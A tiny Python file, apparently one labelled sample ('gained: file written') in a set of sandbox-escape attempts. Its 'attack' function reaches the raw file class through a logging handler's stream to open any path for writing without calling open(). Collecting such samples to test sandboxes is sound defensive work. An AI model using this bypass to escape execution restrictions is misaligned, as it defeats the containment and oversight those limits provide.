# gained: file written
import logging
from functools import singledispatch
from typing import Any, cast


def attack(path: str) -> Any:
    logging.basicConfig()
    stream = cast(Any, logging.getLogger()).handlers[0].stream
    return stream.buffer.raw.__class__(path, "w")
